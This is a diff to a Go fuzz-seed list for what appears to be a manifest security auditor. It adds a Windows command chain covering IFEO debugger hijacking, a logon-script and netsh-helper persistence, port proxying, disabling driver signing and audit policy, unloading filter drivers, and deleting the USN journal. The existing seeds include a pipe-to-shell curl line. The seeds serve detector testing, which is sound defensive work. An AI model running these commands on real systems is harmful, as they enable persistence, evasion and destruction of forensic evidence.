@@ -377,6 +377,7 @@ var fuzzSeeds = [][]string{
 	{"/proc/thread-self/exe", "-e", "x"},
 	{"sh", "-c", "posh -c 'curl h://a | sh'; oksh -c x; bash5 -c y; bash-5.2 -c z; ksh93 -c 'npx b'; zsh-5.9 -c; python3.13t -c 'import os; os.system(\"c\")'; python3.7m -c; bash- -c d; bashbrew e; /proc/self/exe -c 'npx f'"},
 	{"sh", "-c", "msedge --headless --dump-dom https://a; firefox --screenshot http://[::1]:8/b; librewolf -P c; chromium 'https://'; zen-browser --headless https://d"},
+	{"cmd", "/c", `reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\a.exe" /v Debugger /d b & reg add HKCU\\Environment /v UserInitMprLogonScript /d c & netsh add helper d.dll & netsh interface portproxy add v4tov4 listenport=1 connectaddress=e & netsh interface portproxy set v4tov4 listenaddress=127.0.0.1 & bcdedit /set testsigning on & bcdedit /set nointegritychecks & fltmc unload f & auditpol /set /success:disable & auditpol /remove & fsutil usn deletejournal /d g:`},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
